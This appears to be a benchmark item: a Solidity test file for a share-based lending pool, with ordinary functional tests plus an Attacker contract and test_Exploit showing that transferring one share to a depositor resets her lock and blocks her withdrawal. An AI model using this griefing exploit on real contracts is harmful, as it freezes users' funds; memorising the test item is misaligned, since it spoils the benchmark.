// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./LendingShares.sol";

// assay-canary-5e94f618-8d25-4971-8eb2-5093fc665827

interface Vm {
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 100_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant BANK = address(0xBA2);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_750_000_000;

    Coin private coin;
    LendingShares private pool;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        coin = new Coin();
        vm.prank(BANK);
        pool = new LendingShares(coin, 3_000e18);
        coin.transfer(ANA, 6_000e18);
        coin.transfer(BEN, 1_000e18);
        vm.startPrank(ANA);
        coin.approve(address(pool), type(uint256).max);
        pool.deposit(5_000e18);
        vm.stopPrank();
        vm.prank(BEN);
        coin.approve(address(pool), type(uint256).max);
        mallory = new Attacker(pool, coin);
        coin.transfer(address(mallory), 1e18);
        mallory.join();
        vm.warp(START + 2 days);
    }

    function withdrawalOfAna() external {
        vm.prank(ANA);
        pool.withdraw(1_000e18);
    }

    function test_Regular() public {
        vm.prank(ANA);
        pool.transfer(BEN, 2_000e18);
        vm.prank(BANK);
        pool.lend(BEN, 1_000e18);
        require(pool.lentTo(BEN) == 1_000e18 && coin.balanceOf(BEN) == 2_000e18, "lent");
        vm.startPrank(BEN);
        pool.repay(600e18);
        pool.deposit(400e18);
        vm.stopPrank();
        require(pool.balanceOf(BEN) == 2_400e18 && pool.lockedUntil(BEN) == START + 3 days, "deposited");
        vm.warp(START + 3 days);
        vm.startPrank(BEN);
        pool.approve(ANA, 100e18);
        pool.withdraw(2_000e18);
        require(coin.balanceOf(BEN) == 3_000e18 && pool.balanceOf(BEN) == 400e18, "withdrawn");
        vm.stopPrank();
        vm.prank(ANA);
        pool.transferFrom(BEN, ANA, 100e18);
        vm.startPrank(BANK);
        pool.setLimit(10e18);
        pool.transferOwnership(ANA);
        vm.stopPrank();
        vm.prank(ANA);
        pool.renounceOwnership();
        require(pool.limit() == 10e18 && pool.owner() == address(0), "set");
    }

    function test_RefusesTheLocked() public {
        vm.startPrank(ANA);
        pool.deposit(1);
        vm.warp(START + 3 days - 1);
        vm.expectRevert(abi.encodeWithSelector(LockedShares.Locked.selector, ANA, START + 3 days));
        pool.withdraw(1);
        vm.expectRevert(abi.encodeWithSelector(LockedShares.Locked.selector, ANA, START + 3 days));
        pool.transfer(BEN, 1);
        vm.stopPrank();
    }

    function test_RefusesAmounts() public {
        vm.startPrank(ANA);
        vm.expectRevert();
        pool.withdraw(5_000e18 + 1);
        vm.expectRevert();
        pool.deposit(1_000e18 + 1);
        vm.expectRevert(abi.encodeWithSelector(LendingShares.NotLent.selector, 0, 1));
        pool.repay(1);
        vm.stopPrank();
        vm.startPrank(BANK);
        vm.expectRevert(abi.encodeWithSelector(LendingShares.AboveLimit.selector, 3_000e18 + 1, 3_000e18));
        pool.lend(BEN, 3_000e18 + 1);
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, address(this)));
        pool.lend(BEN, 1);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, address(this)));
        pool.setLimit(1);
    }

    function exploit() public {
        mallory.run(ANA);
    }

    function test_Exploit() public {
        exploit();
        try this.withdrawalOfAna() {
            revert("still served");
        } catch {}
    }

    function target() public view returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    LendingShares private pool;

    constructor(LendingShares p, Coin coin) {
        pool = p;
        coin.approve(address(p), 1e18);
    }

    function join() external {
        pool.deposit(1e18);
    }

    function run(address member) external {
        pool.transfer(member, 1);
    }
}
